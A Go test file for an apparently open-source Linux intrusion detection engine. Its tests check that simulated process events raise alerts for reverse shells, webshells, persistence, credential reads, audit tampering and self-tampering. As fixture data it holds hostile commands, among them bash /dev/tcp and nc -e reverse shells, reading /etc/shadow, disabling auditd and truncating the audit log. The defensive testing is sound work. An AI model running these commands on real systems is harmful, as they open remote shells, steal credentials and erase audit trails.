package detect

import (
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/lineaged/lineaged/baseline"
	"github.com/lineaged/lineaged/event"
	"github.com/lineaged/lineaged/graph"
)

// world runs whole scenarios the way the pipeline does: each event goes
// through a real lineage graph (Enrich gives it its entity id and
// ancestry, and its process's node) and then to the engine.
type world struct {
	host string
	t    int64
	seq  int
	g    *graph.Graph
	en   *Engine
	outs []*event.Event
	seen map[int]bool // pids the graph has been shown
}

// proc is a process of a scenario: what its events say about it.
type proc struct {
	pid, ppid int
	exe       string
	args      []string
	uid       string
	up        *proc // its parent, nil at the top
	start     int64 // a start time the source gives (live), 0 for none
}

// child is a process started by p.
func (p proc) child(pid int, exe string, args ...string) proc {
	up := p
	return proc{pid: pid, ppid: p.pid, exe: exe, args: args, uid: p.uid, up: &up}
}

var (
	initP = proc{pid: 1, exe: "/usr/lib/systemd/systemd", uid: "0"}
	sshd  = initP.child(500, "/usr/sbin/sshd")
	login = sshd.child(600, "/usr/bin/bash", "-bash")
)

// newWorld is a replay-like world: one clock, no skew.
func newWorld(cfg Config) *world {
	return newWorldGraph(cfg, graph.Config{Host: "h1"})
}

// newLiveWorld is a live-like world: two clocks 100 ms apart at most, and
// the live agent's exit TTL.
func newLiveWorld(cfg Config) *world {
	return newWorldGraph(cfg, graph.Config{Host: "h1", ClockSkew: 100, ExitTTL: 10_000})
}

func newWorldGraph(cfg Config, gc graph.Config) *world {
	return &world{host: gc.Host, t: time.Date(2026, 11, 27, 8, 0, 0, 0, time.UTC).UnixMilli(), en: New(cfg), g: graph.New(gc), seen: map[int]bool{}}
}

// event builds p's event at the next tick, as a source would (no entity
// id, no ancestry: the graph adds them).
func (w *world) event(p proc, action event.Action, mod func(e *event.Event)) *event.Event {
	w.t += 10
	w.seq++
	e := &event.Event{ID: "ev-" + strconv.Itoa(w.seq), TimeMsec: w.t, Kind: event.KindEvent, Action: action, Outcome: "success",
		Module: "auditd", Host: w.host,
		Process: event.Process{PID: p.pid, PPID: p.ppid, Executable: p.exe, Name: base(p.exe), Args: p.args, StartMsec: p.start},
		User:    event.User{ID: p.uid}}
	if mod != nil {
		mod(e)
	}
	return e
}

// ev feeds p's event through the graph to the engine. p's ancestors the
// graph has not seen are shown to it first (processes found running at
// start: the graph learns them, the engine judges only the event).
func (w *world) ev(p proc, action event.Action, mod func(e *event.Event)) *event.Event {
	w.introduce(p.up)
	e := w.event(p, action, mod)
	w.seen[p.pid] = true
	w.en.Observe(e, w.g.Enrich(e), w.emit)
	return e
}

// graphOnly feeds p's event to the graph alone, as the live agent does
// with the connector's forks.
func (w *world) graphOnly(p proc, action event.Action, mod func(e *event.Event)) *event.Event {
	w.introduce(p.up)
	e := w.event(p, action, mod)
	w.seen[p.pid] = true
	w.g.Enrich(e)
	return e
}

func (w *world) introduce(p *proc) {
	if p == nil || w.seen[p.pid] {
		return
	}
	w.introduce(p.up)
	w.seen[p.pid] = true
	w.g.Enrich(&event.Event{TimeMsec: w.t, Kind: event.KindEvent, Category: event.CategoryProcess, Action: event.ActionExisting,
		Outcome: "success", Module: "proc", Host: w.host,
		Process: event.Process{PID: p.pid, PPID: p.ppid, Executable: p.exe, Args: p.args}, User: event.User{ID: p.uid}})
}

func (w *world) emit(a *event.Event) {
	w.seq++
	a.ID = "al-" + strconv.Itoa(w.seq)
	w.outs = append(w.outs, a)
}

func (w *world) exec(p proc) *event.Event { return w.ev(p, "executed", nil) }

func (w *world) alerts(rule string) []*event.Event {
	var out []*event.Event
	for _, a := range w.outs {
		if a.Kind == event.KindAlert && (rule == "" || a.Alert.RuleID == rule) {
			out = append(out, a)
		}
	}
	return out
}

func (w *world) only(t *testing.T, rule string) *event.Event {
	t.Helper()
	got := w.alerts("")
	if len(got) != 1 || got[0].Alert.RuleID != rule {
		t.Fatalf("want exactly one %s alert, got %s", rule, ruleIDs(got))
	}
	return got[0]
}

func ruleIDs(as []*event.Event) string {
	var ids []string
	for _, a := range as {
		ids = append(ids, a.Alert.RuleID+"("+a.Process.Executable+")")
	}
	return "[" + strings.Join(ids, " ") + "]"
}

func (w *world) none(t *testing.T) {
	t.Helper()
	if got := w.alerts(""); len(got) != 0 {
		t.Fatalf("want no alerts, got %s: %s", ruleIDs(got), got[0].Alert.Reason)
	}
}

func connect(ip string, port int) func(*event.Event) {
	return func(e *event.Event) {
		e.Category = "network"
		e.Network = &event.Network{Family: "ipv4", Direction: "egress", Transport: "tcp"}
		e.Dest = &event.Endpoint{IP: ip, Port: port}
	}
}

func bind(port int) func(*event.Event) {
	return func(e *event.Event) {
		e.Network = &event.Network{Family: "ipv4", Direction: "listening"}
		e.Source = &event.Endpoint{IP: "127.0.0.1", Port: port}
	}
}

func file(path, op string) func(*event.Event) {
	return func(e *event.Event) {
		e.Category = "file"
		e.File = &event.File{Path: path, Operation: op}
	}
}

func TestReverseShellConnectingShell(t *testing.T) {
	w := newWorld(Config{})
	bash := login.child(700, "/usr/bin/bash", "bash", "-c", "bash -i >& /dev/tcp/127.0.0.1/47102 0>&1")
	w.exec(bash)
	c := w.ev(bash, "connected-to", connect("127.0.0.1", 47102))
	a := w.only(t, "lineaged.reverse-shell")
	if a.Alert.Severity != 4 || a.Alert.Techniques[0] != "T1059.004" || a.Process.Executable != "/usr/bin/bash" ||
		a.Alert.Evidence[0].ID != c.ID || len(a.Ancestry) != 3 || a.Alert.Key != "connect|/usr/bin/bash|loopback:ephemeral" {
		t.Fatalf("alert %+v %+v", a.Alert, a.Process)
	}
	if !strings.Contains(a.Alert.Reason, "127.0.0.1:47102") || !strings.Contains(a.Alert.Reason, "no baseline") {
		t.Errorf("reason %q", a.Alert.Reason)
	}
	// DNS from a shell (bash resolving /dev/tcp/host) is not a reverse shell.
	w2 := newWorld(Config{})
	w2.ev(bash, "connected-to", connect("127.0.0.53", 53))
	w2.none(t)
}

func TestReverseShellAfterConnect(t *testing.T) {
	// nc -e /bin/sh: nc connects, then the same process becomes sh.
	w := newWorld(Config{})
	nc := login.child(701, "/usr/bin/nc.traditional", "nc", "-e", "/bin/sh", "10.0.0.9", "4444")
	w.exec(nc)
	w.ev(nc, "connected-to", connect("10.0.0.9", 4444))
	sh := nc
	sh.exe, sh.args = "/usr/bin/dash", []string{"/bin/sh"}
	w.exec(sh)
	w.only(t, "lineaged.reverse-shell")

	// python connects and pty.spawn()s a shell: the parent connected.
	w = newWorld(Config{})
	py := login.child(702, "/usr/bin/python3.11", "python3", "-c", "import socket,pty...")
	w.exec(py)
	w.ev(py, "connected-to", connect("10.0.0.9", 4444))
	w.exec(py.child(703, "/usr/bin/dash", "/bin/sh"))
	a := w.only(t, "lineaged.reverse-shell")
	if len(a.Alert.Evidence) < 2 || !strings.HasPrefix(a.Alert.Evidence[1].Summary, "connected-to 10.0.0.9:4444") {
		t.Errorf("the connect must be evidence: %+v", a.Alert.Evidence)
	}

	// curl connects, the shell that ran it is not a reverse shell.
	w = newWorld(Config{})
	curl := login.child(704, "/usr/bin/curl", "curl", "https://example.com")
	w.ev(curl, "connected-to", connect("93.184.216.34", 443))
	w.exec(login.child(705, "/usr/bin/dash", "sh", "-c", "true"))
	w.none(t)
}

func TestWebshell(t *testing.T) {
	w := newWorld(Config{})
	srv := initP.child(800, "/usr/bin/python3.11", "python3", "websrv.py")
	w.exec(srv)
	b := w.ev(srv, "bound-socket", bind(47101))
	w.exec(srv.child(801, "/usr/bin/dash", "/bin/sh", "-c", "id"))
	a := w.only(t, "lineaged.webshell")
	if len(a.Alert.Evidence) < 2 || a.Alert.Evidence[1].ID != b.ID || !strings.Contains(a.Alert.Reason, "127.0.0.1:47101") {
		t.Fatalf("evidence %+v reason %q", a.Alert.Evidence, a.Alert.Reason)
	}

	// A known server by name, no bind seen.
	w = newWorld(Config{})
	nginx := initP.child(810, "/usr/sbin/nginx", "nginx")
	fpm := nginx.child(811, "/usr/sbin/php-fpm8.2", "php-fpm")
	w.exec(fpm.child(812, "/usr/bin/dash", "sh", "-c", "whoami"))
	w.only(t, "lineaged.webshell")

	// A login below the listener is not the service's doing.
	w = newWorld(Config{})
	w.ev(sshd, "bound-socket", bind(22))
	w.exec(login.child(820, "/usr/bin/dash", "sh"))
	w.none(t)

	// The baseline says this service runs this routinely.
	b0 := baseline.New()
	child := srv.child(830, "/usr/bin/dash", "/bin/sh", "-c", "date")
	key := baseline.EventKeys(newWorld(Config{}).exec(child))[0]
	if !strings.HasPrefix(key, "exec-edge|") || !strings.Contains(key, "python") {
		t.Fatalf("key %q", key)
	}
	for range 10 {
		b0.ObserveKey(key, time.Now())
	}
	w = newWorld(Config{Baseline: b0})
	w.ev(srv, "bound-socket", bind(47101))
	w.exec(child)
	if got := w.alerts("lineaged.webshell"); len(got) != 0 {
		t.Fatalf("a common edge must not alert: %s", ruleIDs(got))
	}
}

func TestExecFromTmpAndDeleted(t *testing.T) {
	w := newWorld(Config{})
	w.exec(login.child(900, "/tmp/lineaged-scn.x/payload", "./payload"))
	a := w.only(t, "lineaged.exec-from-tmp")
	if a.Alert.Techniques[0] != "T1105" || !strings.HasPrefix(a.Alert.Key, "exec-edge|") {
		t.Fatalf("%+v", a.Alert)
	}
	w = newWorld(Config{})
	w.exec(login.child(901, "/memfd:payload (deleted)", "payload"))
	w.only(t, "lineaged.exec-deleted")
	w = newWorld(Config{})
	w.exec(login.child(902, "/usr/bin/true", "true"))
	w.none(t)
}

func TestSetuidRoot(t *testing.T) {
	w := newWorld(Config{})
	p := login.child(1000, "/tmp/x/suid-id", "suid-id")
	p.uid = "65534"
	w.ev(p, "executed", func(e *event.Event) { e.User.EffectiveID = "0" })
	if a := w.alerts("lineaged.setuid-root"); len(a) != 1 || a[0].Alert.Severity != 4 {
		t.Fatalf("got %s", ruleIDs(w.alerts("")))
	}
	w = newWorld(Config{})
	s := login.child(1001, "/usr/bin/sudo", "sudo", "id")
	s.uid = "1000"
	w.ev(s, "executed", func(e *event.Event) { e.User.EffectiveID = "0" })
	w.none(t)
}

func TestPersistenceWrites(t *testing.T) {
	cases := []struct{ path, op, tech string }{
		{"/etc/cron.d/lineaged-scn", "create", "T1053.003"},
		{"/var/spool/cron/crontabs/root", "rename", "T1053.003"},
		{"/etc/systemd/system/evil.service", "create", "T1543.002"},
		{"/root/.ssh/authorized_keys", "write", "T1098.004"},
		{"/home/ann/.ssh/authorized_keys", "write", "T1098.004"},
		{"/etc/ld.so.preload", "write", "T1574.006"},
		{"/etc/sudoers.d/x", "create", "T1548.003"},
		{"/etc/passwd", "rename", "T1136.001"},
		{"/etc/profile.d/x.sh", "create", "T1546.004"},
		{"/root/.bashrc", "write", "T1546.004"},
		{"/etc/rc.local", "write", "T1037.004"},
		{"/etc/init.d/evil", "create", "T1037.004"},
	}
	for _, c := range cases {
		w := newWorld(Config{})
		w.ev(login.child(1100, "/usr/bin/tee", "tee"), "wrote-to-file", file(c.path, c.op))
		a := w.only(t, "lineaged.persistence-write")
		if len(a.Alert.Techniques) != 1 || a.Alert.Techniques[0] != c.tech || a.File.Path != c.path {
			t.Errorf("%s: techniques %v", c.path, a.Alert.Techniques)
		}
	}
	for _, p := range []string{"/etc/cron.d/x"} {
		w := newWorld(Config{})
		w.ev(login.child(1101, "/usr/bin/cat", "cat"), "opened-file", file(p, "read"))
		w.ev(login.child(1102, "/usr/bin/tee", "tee"), "wrote-to-file", file("/etc/hosts", "write"))
		w.none(t)
	}
}

func TestPackageManagerSummary(t *testing.T) {
	b := baseline.New()
	w := newWorld(Config{Baseline: b})
	dpkg := login.child(1200, "/usr/bin/dpkg", "dpkg", "-i", "x.deb")
	w.exec(dpkg)
	post := dpkg.child(1201, "/usr/bin/dash", "/bin/sh", "/var/lib/dpkg/info/x.postinst", "configure")
	w.exec(post)
	w.ev(post.child(1202, "/usr/bin/systemctl", "systemctl", "daemon-reload"), "executed", nil)
	w.ev(dpkg, "wrote-to-file", file("/lib/systemd/system/x.service", "create"))
	if got := w.alerts(""); len(got) != 0 {
		t.Fatalf("patch day must not alert per event: %s", ruleIDs(got))
	}
	w.ev(dpkg, "exited", nil)
	// A child's record arriving after the exit (another source) still
	// counts in the same run.
	w.ev(post, "exited", nil)
	if got := w.alerts(""); len(got) != 0 {
		t.Fatalf("the summary waits %d ms after the exit: %s", exitGraceMsec, ruleIDs(got))
	}
	w.en.Tick(w.t+exitGraceMsec, w.emit)
	a := w.only(t, "lineaged.package-manager")
	if a.Process.Executable != "/usr/bin/dpkg" || a.Alert.Count != 6 || !strings.Contains(a.Alert.Reason, "dpkg -i x.deb") ||
		len(a.Alert.Evidence) != 6 || !strings.HasPrefix(a.Alert.Evidence[0].Summary, "executed dpkg -i x.deb") {
		t.Fatalf("summary %+v %q", a.Process, a.Alert.Reason)
	}
	if b.Len() == 0 {
		t.Fatal("what ran below the package manager must be learned")
	}
	// A detection names it: still alerted below dpkg.
	w = newWorld(Config{Baseline: baseline.New()})
	w.exec(dpkg)
	w.ev(dpkg.child(1203, "/usr/bin/bash", "bash"), "connected-to", connect("10.1.1.1", 4444))
	if got := w.alerts("lineaged.reverse-shell"); len(got) != 1 {
		t.Fatalf("a detection below a package manager must alert: %s", ruleIDs(w.alerts("")))
	}
}

func TestCredentialRead(t *testing.T) {
	w := newWorld(Config{})
	w.ev(login.child(1300, "/usr/bin/cat", "cat", "/etc/shadow"), "opened-file", file("/etc/shadow", "read"))
	w.only(t, "lineaged.credential-read")
	w = newWorld(Config{})
	w.ev(login.child(1301, "/usr/sbin/unix_chkpwd", "unix_chkpwd"), "opened-file", file("/etc/shadow", "read"))
	w.none(t)
	b := baseline.New()
	b.ObserveFile("/usr/bin/backup-tool", "/etc/shadow", "read", time.Now())
	w = newWorld(Config{Baseline: b})
	w.ev(login.child(1302, "/usr/bin/backup-tool", "backup-tool"), "opened-file", file("/etc/shadow", "read"))
	if got := w.alerts("lineaged.credential-read"); len(got) != 0 {
		t.Fatal("a reader the baseline knows must not alert")
	}
}

func TestAuditTamper(t *testing.T) {
	rm := func(e *event.Event) {
		e.Category = "configuration"
		e.Audit = &event.Audit{Data: []event.KV{{Key: "op", Value: "remove_rule"}}}
	}
	w := newWorld(Config{})
	w.ev(login.child(1400, "/usr/sbin/auditctl", "auditctl", "-W", "/x"), "changed-audit-configuration", rm)
	w.only(t, "lineaged.audit-tamper")
	w = newWorld(Config{OwnPID: 1401})
	w.ev(initP.child(1401, "/usr/sbin/lineaged-renamed", "lineaged", "run"), "changed-audit-configuration", rm)
	w.ev(initP.child(1402, "/usr/sbin/lineaged", "lineaged", "run"), "changed-audit-configuration", rm)
	w.none(t)
	w = newWorld(Config{})
	w.ev(login.child(1403, "/usr/sbin/auditctl", "auditctl", "-e", "0"), "changed-audit-configuration", func(e *event.Event) {
		e.Audit = &event.Audit{Data: []event.KV{{Key: "op", Value: "set"}, {Key: "audit_enabled", Value: "0"}}}
	})
	w.only(t, "lineaged.audit-tamper")
	w = newWorld(Config{})
	w.ev(login.child(1404, "/usr/bin/truncate", "truncate", "-s0", "/var/log/audit/audit.log"), "wrote-to-file", file("/var/log/audit/audit.log", "write"))
	w.only(t, "lineaged.audit-tamper")
	w = newWorld(Config{})
	w.ev(login.child(1405, "/usr/bin/bash", "bash"), "wrote-to-file", func(e *event.Event) {
		file("/var/log/auth.log", "write")(e)
		e.Audit = &event.Audit{Syscall: "openat", Data: []event.KV{{Key: "a2", Value: "241"}}} // O_WRONLY|O_CREAT|O_TRUNC
	})
	w.only(t, "lineaged.audit-tamper")
	w = newWorld(Config{})
	w.ev(initP.child(1406, "/usr/sbin/logrotate", "logrotate"), "deleted", file("/var/log/audit/audit.log.4", "delete"))
	w.ev(initP.child(1407, "/usr/sbin/rsyslogd", "rsyslogd"), "wrote-to-file", file("/var/log/syslog", "write"))
	w.none(t)
}

func TestModuleLoadAndMasquerade(t *testing.T) {
	w := newWorld(Config{})
	w.ev(login.child(1500, "/usr/bin/kmod", "insmod", "/tmp/x.ko"), "loaded-kernel-module", file("lineaged_rootkit", "module"))
	a := w.only(t, "lineaged.module-load")
	if !strings.Contains(a.Alert.Reason, "lineaged_rootkit") {
		t.Fatal(a.Alert.Reason)
	}
	w = newWorld(Config{})
	w.exec(login.child(1501, "/usr/bin/sleep", "[kworker/0:2]", "1"))
	w.only(t, "lineaged.masquerade")
	w = newWorld(Config{})
	w.exec(login.child(1502, "/srv/x/sshd", "./sshd"))
	w.only(t, "lineaged.masquerade")
	w = newWorld(Config{})
	w.exec(initP.child(1503, "/usr/sbin/sshd", "/usr/sbin/sshd", "-D"))
	w.exec(login.child(1504, "/usr/bin/python3.11", "python3", "x.py"))
	w.none(t)
}

func TestNewListenerAndNovelty(t *testing.T) {
	b := baseline.New()
	srv := initP.child(1600, "/usr/bin/python3.11", "python3", "-m", "http.server")
	for range 5 {
		b.ObserveListen(srv.exe, 18282, time.Now())
	}
	w := newWorld(Config{Baseline: b})
	w.ev(srv, "bound-socket", bind(18282))
	w.none(t)
	w.ev(srv, "bound-socket", bind(8931))
	a := w.only(t, "lineaged.new-listener")
	if a.Alert.Key != "listen|/usr/bin/python<ver>|8931" || a.Alert.Severity != 2 || len(a.Alert.Novel) != 1 {
		t.Fatalf("%+v", a.Alert)
	}
	// While learning the same is learned, not alerted.
	w = newWorld(Config{Baseline: baseline.New(), Learning: true})
	w.ev(srv, "bound-socket", bind(8931))
	w.none(t)

	// Novelty: a program the baseline never saw, once; then folded.
	w = newWorld(Config{Baseline: b})
	p := login.child(1601, "/usr/bin/nmap", "nmap", "10.0.0.0/24")
	w.exec(p)
	a = w.only(t, "lineaged.novel")
	if a.Alert.Severity != 1 || len(a.Alert.Novel) == 0 || !strings.Contains(a.Alert.Reason, "new against the baseline") {
		t.Fatalf("%+v", a.Alert)
	}
	w.exec(p)
	w.en.Flush(w.emit)
	if len(w.outs) != 2 || w.outs[1].Kind != event.KindEvent || w.outs[1].Action != "alert-repeated" || w.outs[1].Alert.Count != 1 ||
		w.outs[1].Alert.Evidence[0].ID != a.ID {
		t.Fatalf("a repeat must be folded and reported once with its count: %+v", w.outs)
	}
}

func TestLearningIsNotPoisoning(t *testing.T) {
	b := baseline.New()
	w := newWorld(Config{Baseline: b, Learning: true})
	w.exec(login.child(1700, "/usr/bin/id", "id"))
	bash := login.child(1701, "/usr/bin/bash", "bash")
	w.ev(bash, "connected-to", connect("10.0.0.9", 4444))
	w.only(t, "lineaged.reverse-shell")
	if _, ok := b.Lookup("connect|/usr/bin/bash|private:4444"); ok {
		t.Fatal("what a detection named while learning must not be learned")
	}
	if b.Status(baseline.UserExeKey("0", "/usr/bin/id"), baseline.RareRule{}) == baseline.Novel {
		t.Fatal("benign activity must be learned")
	}
	st := w.en.Stats()
	if st.Withheld == 0 || st.Learned == 0 {
		t.Fatalf("stats %+v", st)
	}
}

func TestLearningWindowEnds(t *testing.T) {
	b := baseline.New()
	w := newWorld(Config{Baseline: b, Learning: true})
	w.en.cfg.LearnUntilMsec = w.t + 100
	p := login.child(1800, "/usr/bin/nmap", "nmap")
	w.exec(p)
	w.none(t)
	w.t += 1000
	w.exec(login.child(1801, "/usr/bin/zmap", "zmap"))
	if !w.en.LearningEnded() {
		t.Fatal("learning must end at LearnUntilMsec")
	}
	w.only(t, "lineaged.novel")
}

func TestRateLimit(t *testing.T) {
	w := newWorld(Config{RateLimit: 3, RateWindow: time.Minute})
	for i := range 10 {
		w.exec(login.child(1900+i, "/tmp/p"+strconv.Itoa(i), "p"))
	}
	if got := w.alerts("lineaged.exec-from-tmp"); len(got) != 3 {
		t.Fatalf("want 3 alerts before the limit, got %d", len(got))
	}
	w.t += 61_000
	w.exec(login.child(1999, "/usr/bin/true", "true"))
	sup := w.alerts("lineaged.rate-limited")
	if len(sup) != 1 || sup[0].Alert.Count != 7 {
		t.Fatalf("want one rate-limited alert counting 7: %s", ruleIDs(w.alerts("")))
	}
	if w.en.Stats().RateLimited != 7 {
		t.Fatalf("stats %+v", w.en.Stats())
	}
}

func TestIgnoresOwnAndAlertEvents(t *testing.T) {
	w := newWorld(Config{})
	w.ev(login.child(2000, "/tmp/x", "x"), "executed", func(e *event.Event) { e.Module = "lineaged" })
	w.ev(login.child(2001, "/tmp/x", "x"), "executed", func(e *event.Event) { e.Kind = event.KindAlert })
	w.none(t)
}

// TestUnknownWriterWaits: a write whose writer is not known yet (fanotify
// before the exec) waits; the same write with its writer replaces it, and
// one that stays unknown is raised after the wait.
func TestUnknownWriterWaits(t *testing.T) {
	w := newWorld(Config{})
	anon := proc{pid: 3000}
	w.ev(anon, "modified-file", file("/etc/cron.d/x", "write"))
	w.none(t)
	w.ev(login.child(3000, "/usr/bin/cp", "cp"), "created", file("/etc/cron.d/x", "create"))
	w.t += 5000
	w.exec(login.child(3001, "/usr/bin/true", "true"))
	w.en.Flush(w.emit)
	if a := w.only(t, "lineaged.persistence-write"); a.Process.Executable != "/usr/bin/cp" {
		t.Fatalf("the alert must name the writer: %+v", a.Process)
	}
	w = newWorld(Config{})
	w.ev(anon, "modified-file", file("/etc/cron.d/y", "write"))
	w.t += 2500
	w.exec(login.child(3002, "/usr/bin/true", "true"))
	w.only(t, "lineaged.persistence-write")
}

// TestWebshellStartOneTickOff: live, the connector stamps a fork's start
// and /proc (sock_diag's owner of a listening socket) one tick later. The
// graph takes both for one process, so the listen marks the node the
// shell's ancestry shows.
func TestWebshellStartOneTickOff(t *testing.T) {
	w := newLiveWorld(Config{})
	srv := initP.child(4000, "/usr/bin/python3.11", "python3", "websrv.py")
	fork := w.graphOnly(srv, event.ActionForked, func(e *event.Event) { e.Process.StartMsec = e.TimeMsec })
	w.exec(srv)
	w.ev(srv, event.ActionSocketListening, func(e *event.Event) {
		bind(47101)(e)
		e.Process.StartMsec = fork.Process.StartMsec + 10
	})
	sh := w.exec(srv.child(4001, "/usr/bin/dash", "/bin/sh", "-c", "id"))
	if sh.Parent == nil || sh.Parent.EntityID != fork.Process.EntityID {
		t.Fatalf("the shell's parent %+v is not the forked server %s", sh.Parent, fork.Process.EntityID)
	}
	a := w.only(t, "lineaged.webshell")
	if !strings.Contains(a.Alert.Reason, "listening on 127.0.0.1:47101") {
		t.Errorf("reason %q", a.Alert.Reason)
	}
	// Another program at that pid (reused after the server's exit) does
	// not inherit the listener.
	w = newLiveWorld(Config{})
	w.ev(srv, "bound-socket", bind(47101))
	w.ev(srv, "exited", nil)
	w.t += 1000
	mk := initP.child(4000, "/usr/bin/make", "make")
	w.exec(mk)
	w.exec(mk.child(4001, "/usr/bin/dash", "/bin/sh", "-c", "id"))
	if got := w.alerts("lineaged.webshell"); len(got) != 0 {
		t.Fatal("a reused pid must not inherit the listener")
	}
}

// TestExitBeforeChild: the proc connector reports the server's exit before
// audit delivers the shell it started a moment earlier; the server's node,
// and what the engine keeps on it, outlive the exit.
func TestExitBeforeChild(t *testing.T) {
	w := newLiveWorld(Config{})
	srv := initP.child(4100, "/usr/bin/python3.11", "python3", "websrv.py")
	w.ev(srv, "bound-socket", bind(47101))
	exit := w.ev(srv, "exited", nil)
	w.ev(srv.child(4101, "/usr/bin/dash", "/bin/sh", "-c", "id"), "executed", func(e *event.Event) { e.TimeMsec = exit.TimeMsec - 5 })
	w.only(t, "lineaged.webshell")
	// A process that shows up long after the exit is not the server's
	// child: the graph does not link it, so the listen is no ancestor's.
	w = newLiveWorld(Config{})
	w.ev(srv, "bound-socket", bind(47101))
	w.ev(srv, "exited", nil)
	w.t += exitGraceMsec + 2000
	w.exec(login.child(4102, "/usr/bin/true", "true"))
	w.exec(srv.child(4103, "/usr/bin/dash", "/bin/sh", "-c", "id"))
	if got := w.alerts("lineaged.webshell"); len(got) != 0 {
		t.Fatal("an exited server's listen must not mark a process that came after it")
	}
}

// TestTwoHosts: replay keeps a graph per audit host and one engine; the
// same pid on two hosts is two processes, each with its own memory.
func TestTwoHosts(t *testing.T) {
	w := newWorld(Config{})
	srv := initP.child(4200, "/usr/bin/python3.11", "python3", "websrv.py")
	w.ev(srv, "bound-socket", bind(47101))
	other := newWorldGraph(Config{}, graph.Config{Host: "h2"})
	other.en = w.en // one engine, a second host's graph
	other.t = w.t
	// On the other host pid 4200 is a shell that starts a shell: no
	// listener above it.
	sh := initP.child(4200, "/usr/bin/bash", "bash")
	other.exec(sh)
	other.exec(sh.child(4201, "/usr/bin/dash", "/bin/sh", "-c", "id"))
	if got := other.alerts(""); len(got) != 0 {
		t.Fatalf("the first host's listener marked the second's: %s", ruleIDs(got))
	}
	w.t = other.t
	w.exec(srv.child(4201, "/usr/bin/dash", "/bin/sh", "-c", "id"))
	w.only(t, "lineaged.webshell")
}

func TestSelfTamper(t *testing.T) {
	w := newWorld(Config{OwnPID: 777, OwnFiles: []string{"/srv/lineaged/base.jsonl", "/etc/lineaged/"}})
	w.ev(login.child(5000, "/usr/bin/tee", "tee", "-a", "/srv/lineaged/base.jsonl"), "wrote-to-file", file("/srv/lineaged/base.jsonl", "write"))
	a := w.only(t, "lineaged.self-tamper")
	if a.Alert.Severity != 4 || a.Alert.Techniques[0] != "T1562.001" {
		t.Fatalf("%+v", a.Alert)
	}
	w = newWorld(Config{OwnPID: 777})
	w.ev(login.child(5001, "/usr/bin/vi", "vi"), "renamed", file("/etc/lineaged/lineaged.yml", "rename"))
	w.only(t, "lineaged.self-tamper")
	// Its own writes, and an upgrade by the package manager, are not.
	w = newWorld(Config{OwnPID: 777})
	w.ev(initP.child(777, "/usr/sbin/lineaged", "lineaged", "run"), "wrote-to-file", file("/var/lib/lineaged/baseline.jsonl", "write"))
	dpkg := login.child(5002, "/usr/bin/dpkg", "dpkg", "-i", "lineaged.deb")
	w.ev(dpkg, "renamed", file("/usr/sbin/lineaged", "rename"))
	if got := w.alerts("lineaged.self-tamper"); len(got) != 0 {
		t.Fatalf("own writes and upgrades: %s", ruleIDs(got))
	}
	// ptrace of lineaged: audit's a1 (hex) or the connector's label.
	w = newWorld(Config{OwnPID: 777})
	w.ev(login.child(5003, "/usr/bin/gdb", "gdb", "-p", "777"), "traced-process", func(e *event.Event) {
		e.Audit = &event.Audit{Syscall: "ptrace", Data: []event.KV{{Key: "a0", Value: "4206"}, {Key: "a1", Value: "309"}}}
	})
	w.only(t, "lineaged.self-tamper")
	w = newWorld(Config{OwnPID: 777})
	w.ev(login.child(5004, "/usr/bin/strace", "strace", "-p", "778"), "traced-process", func(e *event.Event) {
		e.Labels = []event.KV{{Key: "target_pid", Value: "778"}}
	})
	w.none(t)
	// The audit PID taken from lineaged.
	w = newWorld(Config{OwnPID: 777})
	w.ev(initP.child(5005, "/usr/sbin/evil", "evil"), "changed-audit-configuration", func(e *event.Event) {
		e.Audit = &event.Audit{Data: []event.KV{{Key: "op", Value: "set"}, {Key: "audit_pid", Value: "5005"}, {Key: "old", Value: "777"}}}
	})
	a = w.only(t, "lineaged.self-tamper")
	if !strings.Contains(a.Alert.Reason, "took the audit PID from lineaged") {
		t.Fatal(a.Alert.Reason)
	}
	// Rules added by another program: a medium audit-tamper alert.
	w = newWorld(Config{OwnPID: 777})
	w.ev(login.child(5006, "/usr/sbin/auditctl", "auditctl", "-w", "/x"), "changed-audit-configuration", func(e *event.Event) {
		e.Audit = &event.Audit{Data: []event.KV{{Key: "op", Value: "add_rule"}}}
	})
	if a := w.only(t, "lineaged.audit-tamper"); a.Alert.Severity != 2 {
		t.Fatalf("severity %d", a.Alert.Severity)
	}
}

// TestUnknownActorCompleted: the write arrives before its writer's exec
// (and no second report of it comes): when the wait is over, the alert
// names the program the exec showed.
func TestUnknownActorCompleted(t *testing.T) {
	w := newWorld(Config{})
	w.ev(proc{pid: 3100}, "modified-file", file("/etc/cron.d/z", "write"))
	w.exec(login.child(3100, "/usr/bin/tee", "tee", "-a", "/etc/cron.d/z"))
	w.none(t)
	w.t += unknownActorWait + 1000
	w.exec(login.child(3101, "/usr/bin/true", "true"))
	a := w.only(t, "lineaged.persistence-write")
	if a.Process.Executable != "/usr/bin/tee" || len(a.Ancestry) == 0 || !strings.Contains(a.Alert.Reason, "/usr/bin/tee") {
		t.Fatalf("the alert must be completed from the exec: %+v %q", a.Process, a.Alert.Reason)
	}
}

// TestUnknownActorByPID: the sources named the writer and the exec that
// followed differently (the write with one start time, the exec with
// another, beyond the clock skew: two instances of the pid in the graph);
// the exec at that pid still completes the alert.
func TestUnknownActorByPID(t *testing.T) {
	w := newLiveWorld(Config{})
	w.ev(proc{pid: 3200, start: w.t}, "modified-file", file("/etc/cron.d/p", "write"))
	tee := login.child(3200, "/usr/bin/tee", "tee", "-a", "/etc/cron.d/p")
	tee.start = w.t - 2000
	x := w.exec(tee)
	if w.g.Stats().PIDReuse != 1 {
		t.Fatalf("the scenario needs two instances: %+v", w.g.Stats())
	}
	w.t += unknownActorWait + 1000
	w.exec(login.child(3201, "/usr/bin/true", "true"))
	a := w.only(t, "lineaged.persistence-write")
	if a.Process.Executable != "/usr/bin/tee" || len(a.Ancestry) == 0 || a.Ancestry[0].EntityID != x.Ancestry[0].EntityID {
		t.Fatalf("the alert must be completed from the exec at that pid: %+v %+v", a.Process, a.Ancestry)
	}
	// An exec at that pid long after the write is not the writer's.
	w = newLiveWorld(Config{})
	w.ev(proc{pid: 3300, start: w.t}, "modified-file", file("/etc/cron.d/q", "write"))
	w.t += unknownActorWait + 500
	late := login.child(3300, "/usr/bin/tee", "tee")
	late.start = w.t
	w.exec(late)
	w.en.Flush(w.emit)
	if a := w.only(t, "lineaged.persistence-write"); a.Process.Executable != "" {
		t.Fatalf("a later process at the pid named the writer: %+v", a.Process)
	}
}
